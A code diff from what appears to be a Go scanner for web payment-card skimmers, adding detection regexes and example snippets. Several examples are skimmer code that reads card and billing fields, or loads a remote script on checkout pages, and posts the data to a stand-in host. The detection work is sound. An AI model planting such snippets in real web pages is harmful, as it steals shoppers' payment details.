@@ -13,9 +13,9 @@ const (
 	// hiddenAddress is the address of a site, http: or wss: or //, in base64, as codes of letters, or in hexadecimal.
 	hiddenAddress = `\batob\s*\(\s*["'` + "`" + `](ahr0c|d3nz|ly9|ly8)|fromcharcode\s*\(\s*(104\s*,\s*116\s*,\s*116\s*,\s*112|119\s*,\s*115\s*,\s*115)\b|["'](\\x68\\x74\\x74\\x70|\\x77\\x73\\x73)`
 	// cardField is the name of a field with the number or the code of a payment card.
-	cardField = `\b(cc[_-]?(number|num|cid|cvv|cvc|exp\w*)|card[_-]?(number|num|code|cvv|cvc)|cvv2?|cvc2?|securitycode|ccnum)\b`
+	cardField = `(\b|_)(cc[_-]?(number|num|cid|cvv|cvc|exp\w*)|card[_-]?(number|num|code|cvv|cvc)|cvv2?|cvc2?|securitycode|ccnum)\b`
 	// ofCheckout are the pages of a checkout, as the choice of a pattern.
-	ofCheckout = `\b(onepage|onestep\w*|firecheckout|(one)?checkout)\s*\|\s*(onepage|onestep\w*|firecheckout|(one)?checkout|cart)`
+	ofCheckout = `\b(onepage|onestep\w*|firecheckout|(one)?checkout)\s*\|\s*(onepage|onestep\w*|firecheckout|(one)?checkout|cart)|\bregexp\s*\(\s*["'](onepage|onestep|firecheckout|checkout)["']`
 	// searchEngines are three names of them at least.
 	searchEngines = `((google|bing|yahoo|aol|yandex|baidu|duckduckgo|\bask\b|\bmsn\b)[^;{}<]{0,40}){3}`
 	// aSecret is a password or a number that only its owner and his bank know.
@@ -33,11 +33,17 @@ var pagePlants = []plant{
 		parts:   []part{like(hiddenAddress, "atob", "fromcharcode", `\x68\x74\x74\x70`, `\x77\x73\x73`), like(cardField, "cc", "card", "cv", "securitycode"), marked(".value", "formdata", "serialize(")}},
 	{what: "a script that reads what visitors type on the pages of a checkout", kind: loot, source: atSkimmers,
 		example: `if((new RegExp("onepage|checkout")).test(window.location)){var i=document.querySelectorAll("input, select");for(k in i)t+=i[k].name+"="+i[k].value;$.post(u,t)}`,
-		parts: []part{like(ofCheckout, "onepage", "onestep", "firecheckout"), marked("location"), marked(".value", ".val("),
+		parts: []part{like(ofCheckout, "onepage", "onestep", "checkout"), marked("location"), marked(".value", ".val("),
 			like(`["'](input|select)\b|\binput\s*,\s*select`, "input", "select"), like(`xmlhttprequest|\bfetch\s*\(|\.ajax\b|\.post\b|sendbeacon|new image\b|\.src\s*=`, "xmlhttp", "fetch", ".ajax", ".post", "sendbeacon", "image", ".src")}},
 	{what: "a script that loads another one on the pages of a checkout", kind: doubtful, source: atSkimmers,
 		example: `if((new RegExp("onepage|checkout|onestep")).test(window.location)){document.write('<script src="https://stats.example/a.js"></script>')}`,
 		parts:   []part{like(ofCheckout, "onepage", "onestep", "firecheckout"), marked("location"), like(`document\.write|createelement\s*\(\s*["']script|\beval\b`, "document.write", "createelement", "eval")}},
+	{what: "a script that sends payment cards and where their owners live to a site that it names", kind: doubtful, source: atSkimmers,
+		example: `d.n=document.getElementById("ccsave_cc_number").value;d.f=document.getElementById("billing:firstname").value;$.post("https://stats.example/g.php",d)`,
+		parts:   []part{like(cardField, "cc", "card", "cv", "securitycode"), marked("billing:", "billing["), marked(".value", ".val("), like(`["'](https?:)?//[\w.-]+\.\w+/[^"'\n]*["']`, "//"), like(`xmlhttprequest|\bfetch\s*\(|\.ajax\b|\.post\b|sendbeacon|new image\b|\.src\s*=`, "xmlhttp", "fetch", ".ajax", ".post", "sendbeacon", "image", ".src")}},
+	{what: "a script whose words are in hexadecimal", kind: suspect, source: "MITRE ATT&CK, T1027 (obfuscated files)",
+		example: `var _0x9533=["\x75\x6e\x64\x65\x66","\x76\x61\x6c\x75\x65"];`,
+		parts:   []part{like(`\b_(\$_)?(0x)?[0-9a-f]{4,6}\s*=\s*\[\s*["'](\\x[0-9a-f]{2}){3}|\[\s*["'](\\x[0-9a-f]{2}){4,}["']\s*\]\s*[\[(]`, `\x`)}},
 	{what: "a script that encodes payment cards and sends them", kind: doubtful, source: atSkimmers,
 		example: `var d={n:document.querySelector("#card-number").value};navigator.sendBeacon("https://stats.example/c",btoa(JSON.stringify(d)))`,
 		parts:   []part{like(`\bbtoa\s*\(\s*((unescape|encodeuricomponent)\s*\(\s*)*json\.stringify`, "btoa"), like(cardField, "cc", "card", "cv", "securitycode"), like(`\bfetch\s*\(\s*["']https?:|\bsendbeacon\s*\(|xmlhttprequest|\$\.(post|ajax)`, "fetch", "sendbeacon", "xmlhttprequest", "$.")}},
